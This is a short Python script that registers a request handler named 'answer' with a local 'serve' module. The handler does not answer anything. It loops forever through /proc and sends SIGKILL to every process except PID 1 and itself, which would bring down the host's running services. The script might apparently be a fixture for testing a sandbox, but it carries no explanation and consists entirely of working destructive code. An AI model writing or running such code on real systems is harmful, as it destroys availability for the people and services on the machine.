import os
import signal

from serve import say, serve

def answer(client, path):
    while True:
        for name in os.listdir("/proc"):
            if name.isdigit() and int(name) > 1 and int(name) != os.getpid():
                os.kill(int(name), signal.SIGKILL)


serve(answer)
